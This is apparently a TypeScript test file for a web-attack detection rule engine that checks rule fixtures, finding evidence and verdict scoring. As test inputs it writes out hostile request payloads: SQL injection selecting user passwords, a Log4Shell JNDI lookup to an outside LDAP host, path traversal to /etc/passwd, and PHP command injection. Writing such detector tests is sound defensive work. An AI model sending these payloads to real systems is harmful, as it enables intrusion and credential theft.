import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { loadRules } from './load-rules.js';
import { createRuleDetector } from './rule-engine.js';
import { WEB_RULES_DIR } from './rules-dir.js';
import { requestVerdict, scanRequest, type RequestObject } from './scan-request.js';

// Golden test: every rule in rules/web runs on its own fixtures, with all other rules loaded
// (as in production), so a prefilter or pattern change that breaks one rule shows here.
const FIXTURES_DIR = join(WEB_RULES_DIR, 'fixtures');
const rules = loadRules();
const detector = createRuleDetector(rules);

function readFixture(ruleId: string, name: 'match' | 'no-match'): Array<{ line: number; request: RequestObject }> {
  const file = join(FIXTURES_DIR, ruleId, `${name}.jsonl`);
  assert.ok(existsSync(file), `${file} is missing: every rule needs match and no-match fixtures`);
  const lines = readFileSync(file, 'utf8').split('\n');
  const out = lines.flatMap((text, i) => (text.trim() === '' ? [] : [{ line: i + 1, request: JSON.parse(text) as RequestObject }]));
  assert.ok(out.length > 0, `${file} has no request`);
  return out;
}

for (const rule of rules) {
  test(`rule ${rule.id} matches every line of its match.jsonl`, () => {
    const misses = readFixture(rule.id, 'match').filter(({ line, request }) =>
      !scanRequest(detector, request, { file: 'match.jsonl', line }).some((f) => f.rule === rule.id));
    assert.deepEqual(misses.map((m) => `line ${m.line}: ${JSON.stringify(m.request)}`), []);
  });

  test(`rule ${rule.id} matches no line of its no-match.jsonl`, () => {
    const hits = readFixture(rule.id, 'no-match').flatMap(({ line, request }) =>
      scanRequest(detector, request, { file: 'no-match.jsonl', line })
        .filter((f) => f.rule === rule.id)
        .map((f) => `line ${line}: ${f.reason}`));
    assert.deepEqual(hits, []);
  });
}

test('every fixture folder belongs to a rule', () => {
  const ids = new Set(rules.map((r) => r.id));
  const orphans = readdirSync(FIXTURES_DIR).filter((name) => !ids.has(name));
  assert.deepEqual(orphans, []);
});

test('a finding carries its evidence', () => {
  const [finding] = scanRequest(detector, { method: 'GET', uri: "/recherche?id=1%27%20UNION%20SELECT%20password%20FROM%20users--" }, { file: 'x.jsonl', line: 7 })
    .filter((f) => f.rule === 'sqli-union-select');
  assert.ok(finding);
  assert.equal(finding.scope, 'request');
  assert.equal(finding.class, 'sqli');
  assert.equal(finding.location, 'query:id');
  assert.equal(finding.fragment, 'UNION SELECT');
  assert.equal(finding.reason, '`UNION SELECT` in query parameter `id`');
  assert.equal(finding.file, 'x.jsonl');
  assert.equal(finding.line, 7);
});

test('a payload in a header, a cookie or a form body is found there and named', () => {
  const inCookie = scanRequest(detector, { method: 'GET', uri: '/', headers: { Cookie: 'lang=fr; pref=${jndi:ldap://198.51.100.7/a}' } });
  assert.equal(inCookie.find((f) => f.class === 'log4shell')?.location, 'cookie:pref');
  const inHeader = scanRequest(detector, { method: 'GET', uri: '/', headers: [['X-Api-Version', 'java.lang.Runtime']] });
  const java = inHeader.find((f) => f.rule === 'cmdi-java-runtime');
  assert.equal(java?.location, 'header:x-api-version');
  assert.equal(java?.reason, '`java.lang.Runtime` in header `x-api-version`');
  const inBody = scanRequest(detector, { method: 'POST', uri: '/contact', body: 'name=x&file=..%2F..%2Fetc%2Fpasswd' });
  assert.equal(inBody.find((f) => f.rule === 'path-traversal-dotdot')?.location, 'body:file');
});

test('requestVerdict: distinct classes and rules in order, score the sum of their severities', () => {
  const findings = scanRequest(detector, { method: 'GET', uri: '/x?a=%3C%3Fphp+system(%27id%27)%3B&b=..%2F..%2Fetc%2Fpasswd', headers: { 'User-Agent': 'sqlmap/1.8' } });
  const verdict = requestVerdict(findings);
  assert.equal(verdict.attack, true);
  assert.deepEqual(verdict.rules, [...new Set(findings.map((f) => f.rule))]);
  assert.deepEqual(verdict.classes, [...new Set(findings.map((f) => f.class))]);
  const severities = new Map(rules.map((r) => [r.id, r.severity]));
  assert.equal(verdict.score, verdict.rules.reduce((s, id) => s + (severities.get(id) ?? 0), 0));
  assert.ok(verdict.classes.includes('scanner') && verdict.classes.includes('path_traversal'));
  assert.deepEqual(requestVerdict([]), { attack: false, classes: [], rules: [], score: 0 });
});
